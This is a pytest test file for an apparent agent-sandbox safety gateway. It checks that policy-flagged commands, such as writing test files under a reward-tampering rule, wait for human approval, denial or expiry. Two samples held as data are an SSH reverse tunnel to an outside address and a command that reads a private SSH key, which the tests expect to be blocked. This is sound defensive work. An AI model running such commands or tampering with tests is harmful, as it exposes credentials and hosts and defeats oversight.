"""Ask as a pending state over HTTP, against real `corral serve` processes on loopback.

The dev preset's gate asks a person about high findings (`gate.ask: callback`): writing a test file
(reward_tampering.test_write, high, response alert) is asked about; rl-strict (`gate.ask: deny`)
refuses its ask verdicts at once.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from corral.client import AsyncCorralClient, CorralAPIError, CorralClient, pending
from corral.events.model import Event
from corral.store.sqlite import EventStore
from tests.server.conftest import AUTH, code, serve

ROCK = "/apis/envs/sandbox/v1"
APPROVALS = "/apis/corral/v1/approvals"
ASKED = "echo 'def test_ok(): pass' > test_x.py && echo wrote"


@pytest.fixture(scope="module")
def dev(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, object]]:
    with serve(tmp_path_factory.mktemp("dev-home"), "--policy", "dev") as s:
        yield s


@pytest.fixture(scope="module")
def hasty(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, object]]:
    """Approvals expire after half a second."""
    with serve(tmp_path_factory.mktemp("hasty-home"), "--policy", "dev",
               "--approval-timeout", "0.5") as s:  # fmt: skip
        yield s


def _client(s: dict[str, object]) -> httpx.Client:
    return httpx.Client(base_url=str(s["url"]), timeout=20, trust_env=False, headers=AUTH)


def _start(http: httpx.Client) -> str:
    body = http.post(f"{ROCK}/start", json={}).json()
    assert body["status"] == "Success", body
    return body["result"]["sandbox_id"]


def _events(s: dict[str, object], sid: str) -> list[Event]:
    store = EventStore(Path(str(s["home"])) / "events.db")
    try:
        return store.query(sandbox_id=sid)
    finally:
        store.close()


def _ask(http: httpx.Client, sid: str, command: str = ASKED, session: str = "default") -> dict:
    r = http.post(f"{ROCK}/run_in_session",
                  json={"sandbox_id": sid, "command": command, "session": session})  # fmt: skip
    body = r.json()
    assert r.status_code == 202, body
    assert body["status"] == "Pending" and set(body["safety"]) == {
        "events", "worst", "penalty", "terminated"}  # fmt: skip
    return body["result"]["pending"]


def test_ask_is_pending_and_nothing_ran(dev: dict[str, object]) -> None:
    with _client(dev) as http:
        sid = _start(http)
        p = _ask(http, sid)
        assert p["id"].startswith("ap-") and p["command"] == ASKED and p["session"] == "default"
        assert p["findings"][0]["rule"] == "reward_tampering.test_write" and p["expires_at"]
        assert p["url"] == f"{APPROVALS}/{p['id']}"
        # not run: no file, and the shell it waits in refuses another command instead of hanging
        r = http.post(f"{ROCK}/read_file", json={"sandbox_id": sid, "path": "test_x.py"})
        assert code(r) == 404
        r = http.post(f"{ROCK}/execute", json={"sandbox_id": sid, "command": "echo hi"})
        assert code(r) == 409 and p["id"] in r.json()["message"]
        listed = http.get(APPROVALS).json()["result"]
        assert [a["id"] for a in listed if a["sandbox_id"] == sid] == [p["id"]]
        one = http.get(f"{APPROVALS}/{p['id']}").json()["result"]
        assert one["status"] == "pending" and one["done"] is False and one["outcome"] is None
        assert one["route"] == "run_in_session" and one["step"] == p["step"]
        http.post(f"{ROCK}/stop", json={"sandbox_id": sid})
        # stopping the sandbox cancels what waited in it
        one = http.get(f"{APPROVALS}/{p['id']}", params={"wait": 10}).json()["result"]
        assert one["status"] == "cancelled"


def test_approve_runs_it_in_its_session_and_step(dev: dict[str, object]) -> None:
    with _client(dev) as http, CorralClient(str(dev["url"])) as c:
        sid = _start(http)
        c.run_in_session(sid, "cd /tmp && export MARK=kept")
        p = _ask(http, sid, "echo 'def test_ok(): pass' > test_x.py && echo \"$MARK $PWD\"")
        decided = c.approve(p["id"], by="alice")["result"]
        assert decided["status"] == "approved" and decided["decided_by"] == "alice"
        done = c.approval(p["id"], wait=20)["result"]
        assert done["done"] is True, done
        out = done["outcome"]
        assert out["status"] == "Success" and out["http_status"] == 200
        assert out["result"]["exit_code"] == 0 and out["result"]["output"] == "kept /tmp\n"
        assert c.execute(sid, "cat /tmp/test_x.py")["result"]["stdout"] == "def test_ok(): pass\n"
        evs = _events(dev, sid)
        started = [e for e in evs if e.rule == "sandbox.command_started" and e.step == p["step"]]
        assert len(started) == 1
        rules = [(e.rule, e.action) for e in evs if e.step == p["step"] and e.source == "policy"]
        assert rules == [("policy.approval_requested", "alerted"),
                         ("policy.approval_granted", "allowed")]  # fmt: skip
        # a decided approval cannot be decided again
        with pytest.raises(CorralAPIError) as err:
            c.deny(p["id"])
        assert err.value.status_code == 409 and "already approved" in err.value.message
        assert c.approvals(sandbox_id=sid)["result"] == []
        assert [a["id"] for a in c.approvals("all", sid)["result"]] == [p["id"]]
        c.stop(sid)


async def test_deny_is_blocked_and_recorded_async_client(dev: dict[str, object]) -> None:
    async with AsyncCorralClient(str(dev["url"])) as c:
        sid = (await c.start())["result"]["sandbox_id"]
        body = await c.execute(sid, "echo 'def test_a(): pass' > test_y.py")
        p = pending(body)
        assert p is not None and body["status"] == "Pending"
        assert (await c.deny(p["id"], by="bob", reason="leave the tests alone"))["result"][
            "status"
        ] == "denied"
        done = (await c.approval(p["id"], wait=20))["result"]
        assert done["route"] == "execute" and done["done"]
        assert done["outcome"]["result"]["exit_code"] == 126
        assert "refused by approver" in done["outcome"]["result"]["stderr"]
        assert done["outcome"]["safety"]["events"] >= 1
        evs = [e for e in _events(dev, sid) if e.step == p["step"]]
        blocked = [
            e for e in evs if e.source == "policy" and e.rule == "reward_tampering.test_write"
        ]
        assert len(blocked) == 1 and blocked[0].action == "blocked"
        refused = [e for e in evs if e.rule == "policy.approval_refused"]
        assert len(refused) == 1 and refused[0].evidence["by"] == "bob"
        assert not any(e.rule == "sandbox.command_started" for e in evs)
        # nothing was written, and the shell is free again
        ls = await c.run_in_session(sid, "ls test_y.py 2>/dev/null || echo free")
        assert ls["result"]["output"] == "free\n"
        await c.stop(sid)


def test_expiry_blocks_the_command(hasty: dict[str, object]) -> None:
    with _client(hasty) as http:
        sid = _start(http)
        p = _ask(http, sid)
        one = http.get(f"{APPROVALS}/{p['id']}", params={"wait": 20}).json()["result"]
        assert one["status"] == "expired" and one["decided_by"] == "corral" and one["done"]
        assert one["outcome"]["result"]["exit_code"] == 126
        r = http.post(f"{APPROVALS}/{p['id']}", json={"decision": "approve"})
        assert code(r) == 409 and "already expired" in r.json()["message"]
        evs = [e for e in _events(hasty, sid) if e.step == p["step"] and e.source == "policy"]
        assert {(e.rule, e.action) for e in evs} == {
            ("policy.approval_requested", "alerted"), ("policy.approval_expired", "blocked"),
            ("reward_tampering.test_write", "blocked")}  # fmt: skip
        r = http.post(f"{ROCK}/read_file", json={"sandbox_id": sid, "path": "test_x.py"})
        assert code(r) == 404
        http.post(f"{ROCK}/stop", json={"sandbox_id": sid})


def test_allowed_commands_still_answer_at_once(dev: dict[str, object]) -> None:
    with _client(dev) as http:
        sid = _start(http)
        r = http.post(f"{ROCK}/run_in_session", json={"sandbox_id": sid, "command": "echo ok"})
        assert r.status_code == 200 and r.json()["result"]["output"] == "ok\n"
        # a critical finding is denied outright under dev, never asked about
        r = http.post(f"{ROCK}/run_in_session", json={"sandbox_id": sid,
                      "command": "ssh -R 8080:localhost:22 user@198.51.100.7"})  # fmt: skip
        assert r.status_code == 200 and r.json()["result"]["exit_code"] == 126
        assert http.get(APPROVALS, params={"sandbox_id": sid}).json()["result"] == []
        http.post(f"{ROCK}/stop", json={"sandbox_id": sid})


@pytest.mark.parametrize(("method", "path", "body", "field"), [
    ("get", f"{APPROVALS}/ap-nope", None, "approval_id"),
    ("post", f"{APPROVALS}/ap-nope", {"decision": "approve"}, "approval_id"),
])  # fmt: skip
def test_unknown_approval_is_404(dev: dict[str, object], method: str, path: str,
                                 body: dict | None, field: str) -> None:  # fmt: skip
    with _client(dev) as http:
        r = http.request(method, path, json=body)
        assert code(r) == 404 and field in r.json()["message"]


@pytest.mark.parametrize(("body", "params", "field"), [
    ({"decision": "maybe"}, None, "decision"),
    ({}, None, "decision"),
    ({"decision": "approve", "colour": "red"}, None, "colour"),
    (None, {"status": "stale"}, "status"),
    (None, {"wait": "-1"}, "wait"),
])  # fmt: skip
def test_bad_approval_requests_name_the_field(dev: dict[str, object], body: dict | None,
                                              params: dict | None, field: str) -> None:  # fmt: skip
    with _client(dev) as http:
        if body is not None:
            r = http.post(f"{APPROVALS}/ap-any", json=body)
        elif "status" in params:
            r = http.get(APPROVALS, params=params)
        else:
            r = http.get(f"{APPROVALS}/ap-any", params=params)
        assert code(r) == 422, r.text
        assert [d["field"] for d in r.json()["detail"]] == [field]
        assert field in r.json()["message"]


def test_rl_strict_never_asks(server: dict[str, object]) -> None:
    """Under rl-strict (gate.ask: deny) an ask verdict is a refusal, answered at once."""
    with _client(server) as http:
        sid = _start(http)
        r = http.post(f"{ROCK}/run_in_session",
                      json={"sandbox_id": sid, "command": "cat ~/.ssh/id_rsa"})  # fmt: skip
        body = r.json()  # refused, and the finding's response ends the episode: Failed (ROCK)
        assert body["status"] == "Failed" and "episode ended by corral's policy" in body["message"]
        assert (
            body["result"]["exit_code"] == 126 and "ask -> deny" in body["result"]["failure_reason"]
        )
        assert http.get(APPROVALS, params={"status": "all"}).json()["result"] == []
        http.post(f"{ROCK}/stop", json={"sandbox_id": sid})


def test_pending_in_one_session_leaves_the_others_free(dev: dict[str, object]) -> None:
    with _client(dev) as http, CorralClient(str(dev["url"])) as c:
        sid = _start(http)
        c.create_session(sid, "s1")
        c.run_in_session(sid, "cd /tmp", session="s1")
        p = _ask(http, sid, session="s1")
        assert p["session"] == "s1"
        # the main shell and other sessions go on while s1 waits
        assert c.run_in_session(sid, "echo main")["result"]["output"] == "main\n"
        r = http.post(f"{ROCK}/run_in_session",
                      json={"sandbox_id": sid, "session": "s1", "command": "true"})  # fmt: skip
        assert code(r) == 409 and p["id"] in r.json()["message"]
        c.approve(p["id"])
        done = c.approval(p["id"], wait=20)["result"]
        assert done["outcome"]["result"]["output"] == "wrote\n"
        assert c.execute(sid, "cat /tmp/test_x.py")["result"]["stdout"] == "def test_ok(): pass\n"
        c.stop(sid)


def test_openapi_documents_approvals_and_the_pending_answer(dev: dict[str, object]) -> None:
    with _client(dev) as http:
        paths = http.get("/openapi.json").json()["paths"]
        assert set(paths[APPROVALS]) == {"get"}
        assert set(paths[f"{APPROVALS}/{{approval_id}}"]) == {"get", "post"}
        for route in ("run_in_session", "execute"):
            assert "202" in paths[f"{ROCK}/{route}"]["post"]["responses"], route
